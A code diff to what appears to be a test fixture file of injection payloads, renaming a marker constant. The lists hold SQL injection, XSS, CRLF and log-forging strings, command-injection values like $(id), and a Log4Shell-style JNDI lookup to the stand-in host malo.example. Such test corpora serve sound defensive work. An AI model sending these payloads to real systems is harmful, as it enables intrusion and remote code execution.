@@ -1,7 +1,7 @@
 /** In an answer's head it would mean that a value became a header. */
 export const injectedHeader = 'X-Injected'
 /** In a refusal it would mean that a value comes back. */
-export const marker = 'flota-marca'
+export const reflectedMarker = 'flota-marca'
 
 const sql = [
   `' or '1'='1`,
@@ -12,7 +12,7 @@ const sql = [
   `%' and 1=cast((select version()) as int) --`,
 ]
 const script = [
-  `<script>alert('${marker}')</script>`,
+  `<script>alert('${reflectedMarker}')</script>`,
   `"><img src=x onerror=alert(1)>`,
   `<svg/onload=alert(1)>`,
   'javascript:alert(1)',
@@ -35,9 +35,9 @@ const formulas = [
 ]
 const logs = [
   `uno\r\n${injectedHeader}: si`,
-  `uno\n{"level":60,"msg":"${marker}"}`,
+  `uno\n{"level":60,"msg":"${reflectedMarker}"}`,
   '\u001b[2J\u001b[31mrojo\u001b]0;título\u0007',
-  `\${jndi:ldap://malo.example/${marker}}`,
+  `\${jndi:ldap://malo.example/${reflectedMarker}}`,
   '%s%n%p %x',
   `$(id) \`id\` | id; id && id`,
 ]
